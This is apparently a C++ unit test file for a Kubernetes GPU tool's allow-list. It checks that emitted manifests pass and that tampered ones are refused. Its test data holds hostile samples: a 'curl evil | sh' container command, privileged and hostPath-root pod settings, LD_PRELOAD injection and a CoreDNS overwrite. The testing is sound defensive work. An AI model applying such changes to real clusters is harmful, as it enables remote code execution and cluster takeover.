// The allow-list (issue 51): what an emitter writes passes; each tampering an attacker tried on
// a real cluster is refused with its file and JSON path.
#include "gpufit/apply/allow_list.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "gpufit/apply/object_diff.h"

namespace gpufit::apply {
namespace {

using Json = nlohmann::json;
using ::testing::HasSubstr;

Change Of(const std::string& file, const Json& body, Change::Method method = Change::Method::kPatch) {
  Change c;
  c.file = file;
  c.body = body;
  c.method = method;
  c.patch_type = "strategic";
  c.ref = {.api_version = body.value("apiVersion", ""),
           .kind = body.value("kind", ""),
           .ns = body.contains("metadata") ? body["metadata"].value("namespace", "") : "",
           .name = body.contains("metadata") ? body["metadata"].value("name", "") : ""};
  c.workload = file.starts_with("workload-") && c.ref.kind != "Job";
  return c;
}

// What the HAMi, MIG, DRA-MPS, time-slicing, KAI, whole-GPU, engine and training emitters write
// into one pod template (plan/manifests/*.cpp), all at once.
Json EmittedWorkload() {
  return Json::parse(R"({"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"ml"},
    "spec":{"template":{
      "metadata":{"annotations":{"gpu-memory":"30000","gpufit.io/checkpoint-interval-seconds":"1800"},
                  "labels":{"kai.scheduler/queue":"default-queue"}},
      "spec":{"schedulerName":"hami-scheduler",
        "nodeSelector":{"nvidia.com/gpu.product":"NVIDIA-H100-80GB-HBM3","karpenter.sh/capacity-type":"spot"},
        "tolerations":[{"key":"cloud.google.com/gke-spot","operator":"Equal","value":"true","effect":"NoSchedule"}],
        "affinity":{"nodeAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":{"nodeSelectorTerms":[
          {"matchExpressions":[{"key":"nvidia.com/gpu.sharing-strategy","operator":"NotIn","values":["mps"]}]}]}}},
        "resourceClaims":[{"name":"gpufit-gpu","resourceClaimName":"gpufit-gpu-0"}],
        "containers":[{"name":"srv",
          "args":["--model","m","--gpu-memory-utilization","0.37"],
          "env":[{"name":"CUDA_MPS_PINNED_DEVICE_MEM_LIMIT","value":"0=30000M"}],
          "resources":{"limits":{"nvidia.com/gpu":null,"nvidia.com/gpumem":"30000","nvidia.com/mig-3g.40gb":"1"},
                       "requests":{"nvidia.com/gpu.shared":"1"},"claims":[{"name":"gpufit-gpu"}]}}]}}}})");
}

std::string Refusal(const Change& c, std::set<std::string> planned = {"ml"}) {
  Result<void> r = CheckAllowed(c, planned, c.file);
  return r ? "" : r.error().message;
}

TEST(AllowList, EverythingTheEmittersWritePasses) {
  EXPECT_EQ(Refusal(Of("workload-ml-deployment-web.yaml", EmittedWorkload())), "");
  EXPECT_EQ(Refusal(Of("node-gpu-0.yaml", Json::parse(R"({"apiVersion":"v1","kind":"Node","metadata":{"name":"gpu-0",
    "labels":{"nvidia.com/mig.config":"gpufit-gpu-0"}}})"))),
            "");
  EXPECT_EQ(Refusal(Of("clusterpolicy-cluster-policy.yaml",
                       Json::parse(R"({"apiVersion":"nvidia.com/v1","kind":"ClusterPolicy","metadata":{"name":"cluster-policy"},
    "spec":{"migManager":{"config":{"name":"gpufit-mig-parted-config","default":"all-disabled"}},"mig":{"strategy":"mixed"}}})"))),
            "");
  EXPECT_EQ(Refusal(Of("priorityclass-gpufit-night-lending.yaml",
                       Json::parse(R"({"apiVersion":"scheduling.k8s.io/v1","kind":"PriorityClass",
    "metadata":{"name":"gpufit-night-lending"},"value":-100,"globalDefault":false,"preemptionPolicy":"Never",
    "description":"d"})"),
                       Change::Method::kApply)),
            "");
  EXPECT_EQ(Refusal(Of("resourceclaim-ml-gpufit-gpu-0.yaml",
                       Json::parse(R"({"apiVersion":"resource.k8s.io/v1","kind":"ResourceClaim",
    "metadata":{"name":"gpufit-gpu-0","namespace":"ml"},"spec":{"devices":{"requests":[{"name":"gpu"}]}}})"),
                       Change::Method::kApply)),
            "");
}

// The tampered folders of the issue, each refused by path (and nothing else in the message
// matters: the run stops before anything is sent).
TEST(AllowList, TamperedFilesAreRefusedWithTheirPath) {
  struct Case {
    std::string file, yaml_path;
    Json value;
    std::string expected;
  };
  const std::vector<Case> workload_cases = {
      {"", "/spec/template/spec/containers/0/image", "evil:1", "spec.template.spec.containers[srv].image"},
      {"", "/spec/template/spec/hostPID", true, "spec.template.spec.hostPID"},
      {"", "/spec/template/spec/hostNetwork", true, "spec.template.spec.hostNetwork"},
      {"", "/spec/template/spec/volumes", Json::parse(R"([{"name":"root","hostPath":{"path":"/"}}])"),
       "spec.template.spec.volumes[root]"},
      {"", "/spec/template/spec/serviceAccountName", "gpufit-applier", "spec.template.spec.serviceAccountName"},
      {"", "/spec/template/spec/serviceAccount", "gpufit-applier", "spec.template.spec.serviceAccount"},
      {"", "/spec/template/spec/containers/0/securityContext", Json::parse(R"({"privileged":true})"),
       "spec.template.spec.containers[srv].securityContext.privileged"},
      {"", "/spec/replicas", 0, "spec.replicas"},
      {"", "/metadata/labels", Json::parse(R"({"x":"y"})"), "metadata.labels.x"},
      {"", "/spec/template/spec/schedulerName", "my-scheduler", "\"my-scheduler\" is not a value gpufit writes"},
      {"", "/spec/template/spec/tolerations/0/key", "node-role.kubernetes.io/control-plane",
       "spec.template.spec.tolerations[0].key"},
      {"", "/spec/template/spec/containers/0/resources/limits/memory", "1Ti",
       "spec.template.spec.containers[srv].resources.limits.memory"},
      {"", "/spec/template/spec/containers/0/env/0/name", "LD_PRELOAD", "env[LD_PRELOAD].name"},
      {"", "/spec/template/spec/containers/0/$patch", "replace", "a patch directive"},
  };
  for (const Case& k : workload_cases) {
    Json body = EmittedWorkload();
    body[Json::json_pointer(k.yaml_path)] = k.value;
    const std::string why = Refusal(Of("workload-ml-deployment-web.yaml", body));
    EXPECT_THAT(why, HasSubstr("workload-ml-deployment-web.yaml: ")) << k.yaml_path;
    EXPECT_THAT(why, HasSubstr(k.expected)) << k.yaml_path;
  }
  // The Corefile of kube-system/coredns in a configmap-*.yaml file.
  EXPECT_THAT(Refusal(Of("configmap-coredns.yaml", Json::parse(R"({"apiVersion":"v1","kind":"ConfigMap",
    "metadata":{"name":"coredns","namespace":"kube-system"},"data":{"Corefile":". {}"}})"),
                         Change::Method::kApply)),
              HasSubstr("ConfigMap kube-system/coredns: gpufit writes only ConfigMaps gpu-operator/"));
  // A PriorityClass that every pod would get, above every workload's.
  EXPECT_THAT(Refusal(Of("priorityclass-gpufit-inference.yaml",
                         Json::parse(R"({"apiVersion":"scheduling.k8s.io/v1","kind":"PriorityClass",
    "metadata":{"name":"gpufit-inference"},"value":100000,"globalDefault":true})"),
                         Change::Method::kApply)),
              HasSubstr("globalDefault: true is not a value gpufit writes there (false)"));
  EXPECT_THAT(Refusal(Of("priorityclass-gpufit-inference.yaml",
                         Json::parse(R"({"apiVersion":"scheduling.k8s.io/v1","kind":"PriorityClass",
    "metadata":{"name":"gpufit-inference"},"value":1000000000})"),
                         Change::Method::kApply)),
              HasSubstr("value: 1000000000 is not a value gpufit writes there"));
  EXPECT_THAT(Refusal(Of("priorityclass-customer.yaml",
                         Json::parse(R"({"apiVersion":"scheduling.k8s.io/v1","kind":"PriorityClass",
    "metadata":{"name":"customer-critical"},"value":10})"),
                         Change::Method::kApply)),
              HasSubstr("PriorityClass customer-critical: gpufit writes only"));
  // A Node cordoned and given the control plane's label.
  EXPECT_THAT(Refusal(Of("node-gpu-0.yaml", Json::parse(R"({"apiVersion":"v1","kind":"Node","metadata":{"name":"gpu-0"},
    "spec":{"unschedulable":true}})"))),
              HasSubstr("node-gpu-0.yaml: spec.unschedulable: not a field gpufit changes"));
  EXPECT_THAT(Refusal(Of("node-gpu-0.yaml", Json::parse(R"({"apiVersion":"v1","kind":"Node","metadata":{"name":"gpu-0",
    "labels":{"node-role.kubernetes.io/control-plane":""}}})"))),
              HasSubstr("metadata.labels.node-role.kubernetes.io/control-plane: not a field"));
  // A DaemonSet's image by way of a workload file (kube-system/kube-proxy).
  Json proxy = Json::parse(R"({"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"kube-proxy",
    "namespace":"kube-system"},"spec":{"template":{"spec":{"containers":[{"name":"kube-proxy","image":"evil"}]}}}})");
  EXPECT_THAT(Refusal(Of("workload-kube-system-daemonset-kube-proxy.yaml", proxy)),
              HasSubstr("spec.template.spec.containers[kube-proxy].image"));
  // A ResourceClaim in a namespace the plan does not plan.
  EXPECT_THAT(Refusal(Of("resourceclaim-x.yaml", Json::parse(R"({"apiVersion":"resource.k8s.io/v1",
    "kind":"ResourceClaim","metadata":{"name":"gpufit-gpu-0","namespace":"kube-system"},"spec":{"devices":{}}})"),
                         Change::Method::kApply)),
              HasSubstr("namespace kube-system holds no workload of the plan"));
}

TEST(AllowList, ArgsMayChangeOnlyTheGpuMemoryUtilization) {
  Json live = Json::parse(R"({"spec":{"template":{"spec":{"containers":[
    {"name":"srv","args":["--model","m","--gpu-memory-utilization","0.9"]}]}}}})");
  const Change ok = Of("workload-ml-deployment-web.yaml", EmittedWorkload());
  EXPECT_TRUE(CheckAgainstLive(ok, live, ok.file));
  // The flag appended where the live list lacked it, in its = form.
  Json appended = EmittedWorkload();
  appended["spec"]["template"]["spec"]["containers"][0]["args"] = {"--model", "m", "--gpu-memory-utilization=0.37"};
  live["spec"]["template"]["spec"]["containers"][0]["args"] = {"--model", "m"};
  EXPECT_TRUE(CheckAgainstLive(Of(ok.file, appended), live, ok.file));
  Json smuggled = EmittedWorkload();
  smuggled["spec"]["template"]["spec"]["containers"][0]["args"] = {"--model", "evil", "--gpu-memory-utilization",
                                                                   "0.37"};
  Result<void> r = CheckAgainstLive(Of(ok.file, smuggled), live, ok.file);
  ASSERT_FALSE(r);
  EXPECT_THAT(r.error().message, HasSubstr("spec.template.spec.containers[srv].args: differs from the live"));
  // A command where the live container had none (the issue's `command` set on a workload).
  Json command = EmittedWorkload();
  command["spec"]["template"]["spec"]["containers"][0]["command"] = {"sh", "-c", "curl evil | sh"};
  r = CheckAgainstLive(Of(ok.file, command), live, ok.file);
  ASSERT_FALSE(r);
  EXPECT_THAT(r.error().message, HasSubstr("spec.template.spec.containers[srv].command: differs from the live"));
}

TEST(AllowList, UndoOfARecordMayRestoreButNotReachFurther) {
  // The undo of the emitted patch on a live object with other tolerations and containers'
  // fields: InversePatch restores the tolerations list whole and deletes what the patch added.
  const Json live = Json::parse(R"({"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"ml"},
    "spec":{"template":{"spec":{"tolerations":[{"key":"dedicated","operator":"Exists","tolerationSeconds":30}],
      "containers":[{"name":"srv","image":"srv:1","args":["--model","m"],"resources":{"limits":{"nvidia.com/gpu":"1"}}}]}}}})");
  AppliedChange a{.file = "workload-ml-deployment-web.yaml",
                  .ref = {.api_version = "apps/v1", .kind = "Deployment", .ns = "ml", .name = "web"},
                  .method = "patch",
                  .patch_type = "strategic",
                  .undo_kind = "patch",
                  .undo = InversePatch(live, EmittedWorkload(), true),
                  .body = EmittedWorkload()};
  Result<void> ok = CheckUndo(a, "record");
  EXPECT_TRUE(ok) << ok.error().message << "\n" << a.undo.dump(1);
  // A record whose undo sets an image, or deletes the pod spec's volumes the change never set.
  AppliedChange image = a;
  image.undo["spec"]["template"]["spec"]["containers"][0]["image"] = "evil";
  EXPECT_THAT(CheckUndo(image, "record").error().message,
              HasSubstr("record (its undo): spec.template.spec.containers[srv].image"));
  AppliedChange volumes = a;
  volumes.undo["spec"]["template"]["spec"]["volumes"] = nullptr;
  EXPECT_THAT(CheckUndo(volumes, "record").error().message, HasSubstr("spec.template.spec.volumes: not a field"));
  // Deleting a container the change did not add.
  AppliedChange container = a;
  container.undo["spec"]["template"]["spec"]["containers"].push_back({{"name", "sidecar"}, {"$patch", "delete"}});
  EXPECT_THAT(CheckUndo(container, "record").error().message, HasSubstr("a patch directive"));
  // A replace that puts back another object than the change's, and a delete of a Namespace.
  AppliedChange cm{.file = "configmap-gpu-operator-gpufit-device-plugin-config.yaml",
                   .ref = {.api_version = "v1", .kind = "ConfigMap", .ns = "gpu-operator", .name = "gpufit-device-plugin-config"},
                   .method = "apply",
                   .undo_kind = "replace",
                   .undo = Json::parse(R"({"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"coredns",
                     "namespace":"kube-system"},"data":{}})")};
  EXPECT_THAT(CheckUndo(cm, "record").error().message, HasSubstr("its undo puts back ConfigMap kube-system/coredns"));
  AppliedChange ns = cm;
  ns.ref = {.api_version = "v1", .kind = "Namespace", .ns = "", .name = "ml"};
  ns.undo_kind = "delete";
  EXPECT_THAT(CheckUndo(ns, "record").error().message, HasSubstr("a Namespace in a configmap-*.yaml file"));
}

}  // namespace
}  // namespace gpufit::apply
